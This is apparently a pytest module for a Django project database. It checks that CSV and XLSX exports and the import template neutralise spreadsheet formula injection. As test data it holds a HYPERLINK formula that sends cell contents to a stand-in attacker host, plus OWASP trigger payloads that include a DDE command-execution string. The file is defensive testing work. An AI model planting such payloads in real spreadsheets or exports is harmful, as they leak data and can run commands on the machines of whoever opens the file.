"""No formula gets out: every CSV and XLSX the system writes keeps texts as text.

A project that anyone can share with a department carries its name into the
API's exports, the admin's Excel export and the import template. A name such as
``=HYPERLINK(...)`` must reach a spreadsheet as text (CSV: a leading ``'``; XLSX:
a string cell, no ``<f>`` element), and the import must read its own template
back unchanged instead of refusing it ("含有公式").
"""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from portfolio.choices import Role
from portfolio.spreadsheets import csv_value, formula_like
from projects.exchange import excel
from projects.models import Project, YearRecord
from tests.callers import token_caller
from tests.exchange.helpers import (
    cell,
    commit,
    import_errors,
    preview,
    sheet,
    template_download,
    to_bytes,
    upload,
)

pytestmark = pytest.mark.django_db

YEAR = 2026
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
# One text per character that starts a formula (OWASP): = + - @ tab CR.
TRIGGERS = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def formulas_in(xlsx: bytes) -> list[str]:
    """The names of the workbook's parts that hold a formula element."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.endswith(".xml") and b"<f>" in archive.read(name)
        ]


def csv_rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


@pytest.fixture
def shared_project(db) -> Project:
    """A bazhou project renamed through the API, as the issue did (by an
    administrator's token: the plan's own fields are not a clerk's to edit)."""
    writer = token_caller("write", role=Role.ADMINISTRATOR)
    response = writer.patch("/api/v1/projects/t1-001/", {"name": EVIL}, format="json")
    assert response.status_code == 200, response.content
    return Project.objects.get(code="t1-001")


def test_the_triggers_are_the_owasp_ones():
    assert all(formula_like(text) for text in TRIGGERS)
    assert not formula_like("巴州区项目") and not formula_like(-5)
    assert csv_value(EVIL) == "'" + EVIL
    assert csv_value("文化旅游") == "文化旅游"


def test_api_csv_prefixes_every_formula_like_text(reader, shared_project):
    records = YearRecord.objects.filter(project=shared_project).order_by("year")
    for record, text in zip(records, TRIGGERS, strict=False):
        YearRecord.objects.filter(pk=record.pk).update(progress=text)
    rows = csv_rows(reader.get("/api/v1/projects/", {"format": "csv"}))
    header, *data = rows
    name = data[0][header.index("项目名称")]
    assert name == "'" + EVIL
    rows = csv_rows(
        reader.get("/api/v1/year-records/", {"format": "csv", "project": "t1-001"})
    )
    header, *data = rows
    column = header.index("进展情况")
    progress = {row[column] for row in data}
    assert {"'" + text for text in TRIGGERS[: records.count()]} <= progress
    # No cell of either export begins with a trigger any more.
    assert not any(formula_like(value) for row in data for value in row)


def test_api_xlsx_writes_a_string_cell_not_a_formula(reader, shared_project):
    response = reader.get("/api/v1/projects/", {"format": "xlsx"})
    assert response.status_code == 200
    assert formulas_in(response.content) == []
    ws = load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in ws[1]]
    target = ws.cell(row=2, column=header.index("项目名称") + 1)
    assert target.value == EVIL
    assert target.data_type == "s"


def test_admin_export_writes_no_formula(client, supervisor, shared_project):
    client.force_login(supervisor)
    for layout in (excel.BY_TABLE, excel.SINGLE_SHEET):
        response = client.get(
            reverse("admin:projects_project_export"),
            {"_download": "1", "_year": YEAR, "_layout": layout},
        )
        assert response.status_code == 200
        assert formulas_in(response.content) == []
        workbook = load_workbook(io.BytesIO(response.content))
        names = {
            c.value
            for ws in workbook.worksheets
            for row in ws.iter_rows()
            for c in row
            if c.data_type == "s"
        }
        assert EVIL in names


def test_template_round_trip_keeps_formula_like_texts(
    client, clerk_bazhou, shared_project
):
    """The template with the shared name is imported again without refusal, and
    formula-like texts typed as text come back exactly."""
    client.force_login(clerk_bazhou)
    response = client.get(reverse("admin:projects_yearrecord_template"), {"year": YEAR})
    assert formulas_in(response.content) == []
    # Unchanged: accepted, nothing to save (it was refused: "含有公式").
    _, token = upload(client, response.content)
    page = preview(client, token)
    assert import_errors(page) == []
    assert "没有需要保存的修改" in page.content.decode()

    workbook = template_download(client)
    ws = sheet(workbook)
    assert cell(ws, "t1-001", "name").value == EVIL
    typed = {
        "progress": EVIL,
        "problems": "-资金缺口 300 万元",
        "next_steps": "@财政局",
    }
    for name, text in typed.items():
        target = cell(ws, "t1-001", name)
        target.value = text
        target.data_type = "s"  # typed as text, as Excel stores '=… or a string
    _, token = upload(client, to_bytes(workbook))
    page = preview(client, token)
    assert import_errors(page) == []
    assert commit(client, token).status_code == 302
    record = YearRecord.objects.get(project__code="t1-001", year=YEAR)
    assert {name: getattr(record, name) for name in typed} == typed

    # And out again: the template holds them as text, still no formula.
    again = client.get(reverse("admin:projects_yearrecord_template"), {"year": YEAR})
    assert formulas_in(again.content) == []
    ws = sheet(load_workbook(io.BytesIO(again.content)))
    assert cell(ws, "t1-001", "progress").value == EVIL


def test_a_real_formula_typed_by_a_clerk_is_still_refused(client, clerk_bazhou):
    client.force_login(clerk_bazhou)
    workbook = template_download(client)
    cell(sheet(workbook), "t1-001", "progress").value = "=1+1"
    _, token = upload(client, to_bytes(workbook))
    errors = import_errors(preview(client, token))
    assert any("含有公式" in message for _, message in errors)
